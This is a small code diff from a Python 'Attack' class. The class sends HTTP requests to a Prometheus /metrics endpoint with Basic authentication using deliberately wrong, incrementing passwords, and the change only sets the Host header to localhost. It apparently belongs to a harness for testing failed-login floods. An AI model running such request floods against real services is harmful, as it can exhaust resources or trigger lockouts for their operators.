@@ -82,7 +82,7 @@ class Attack:
             client = self.free.pop()
             word = base64.b64encode(f'prometheus:wrong{self.tried}'.encode())
             try:
-                client.send(b'GET /metrics HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ' + word + b'\r\n\r\n')
+                client.send(b'GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic ' + word + b'\r\n\r\n')
             except BlockingIOError:
                 self.free.insert(0, client)
                 return
